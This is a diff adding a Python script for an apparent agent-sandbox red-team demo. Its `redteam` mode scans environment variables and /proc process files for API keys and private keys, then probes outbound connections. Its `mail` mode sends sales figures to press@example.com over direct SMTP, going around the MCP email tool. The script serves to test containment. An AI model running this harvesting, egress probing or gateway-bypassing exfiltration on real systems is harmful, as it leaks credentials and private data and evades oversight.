@@ -1,0 +1,98 @@
+"""What the "agent" of the demo runs inside its sandbox: standard library only,
+no credential. `redteam` tries to get out; `mail` sends a result both ways."""
+
+import email.message
+import json
+import os
+import re
+import smtplib
+import socket
+import sys
+import time
+import urllib.request
+
+SECRET = re.compile(r"e2b_[0-9a-f]{40}|pib_[A-Z2-7]{26}|BEGIN [A-Z ]*PRIVATE KEY|AKIA[0-9A-Z]{16}")
+
+
+def secrets():
+    """Everything that code in here could read and that might hold a secret."""
+    found = [k for k, v in os.environ.items() if SECRET.search(v)]
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        for name in ("environ", "cmdline"):
+            try:
+                with open(f"/proc/{pid}/{name}", "rb") as f:
+                    text = f.read().decode("utf-8", "replace")
+            except OSError:
+                continue
+            if SECRET.search(text):
+                found.append(f"/proc/{pid}/{name}")
+    return found
+
+
+def attempt(host, port):
+    start = time.monotonic()
+    try:
+        with socket.create_connection((host, port), timeout=5) as s:
+            s.settimeout(3)
+            s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
+            got = s.recv(100)
+            how = "closed without an answer" if not got else f"ANSWERED {got[:40]!r}"
+            blocked = not got
+    except OSError as e:
+        blocked, how = True, str(e)
+    ms = round(1000 * (time.monotonic() - start))
+    return {"host": host, "port": port, "blocked": blocked, "ms": ms, "how": how}
+
+
+def redteam(targets):
+    print(json.dumps({"secrets": secrets()}))
+    for t in targets:
+        host, _, port = t.rpartition(":")
+        print(json.dumps(attempt(host, int(port))), flush=True)
+
+
+def tool(name, arguments):
+    """Calls one tool of the Model Context Protocol over plain HTTP."""
+
+    def post(message):
+        req = urllib.request.Request(
+            "http://postern.internal/mcp",
+            json.dumps(message).encode(),
+            {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"},
+        )
+        with urllib.request.urlopen(req, timeout=20) as r:
+            text = r.read().decode()
+        for line in text.splitlines():
+            if line.startswith("data:"):
+                text = line[5:]
+        return json.loads(text) if text.strip() else None
+
+    post({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+        "protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "demo agent", "version": "1"}}})
+    answer = post({"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": name, "arguments": arguments}})
+    return answer["result"]
+
+
+def mail(sender, to, bcc):
+    import pandas
+
+    sales = pandas.read_csv("/home/user/sales.csv")
+    totals = sales.groupby("region")["amount"].sum()
+    totals.to_csv("/home/user/totals.csv")
+    text = "Totals by region:\n\n" + totals.to_string() + "\n"
+
+    result = tool("email_send", {
+        "to": [to], "bcc": [bcc], "subject": "Sales by region", "body": text, "attachments": ["/home/user/totals.csv"]})
+    print(json.dumps({"tool": result}))
+
+    m = email.message.EmailMessage()
+    m["From"], m["To"], m["Subject"] = sender, "press@example.com", "Sales figures, fresh from the agent"
+    m.set_content(text)
+    with smtplib.SMTP("smtp.example.com", 25, timeout=20) as s:
+        s.login("agent", "no password is needed here")
+        s.send_message(m)
+        print(json.dumps({"smtp": "accepted"}))
+
+
+if __name__ == "__main__":
+    {"redteam": lambda a: redteam(a), "mail": lambda a: mail(*a)}[sys.argv[1]](sys.argv[2:])
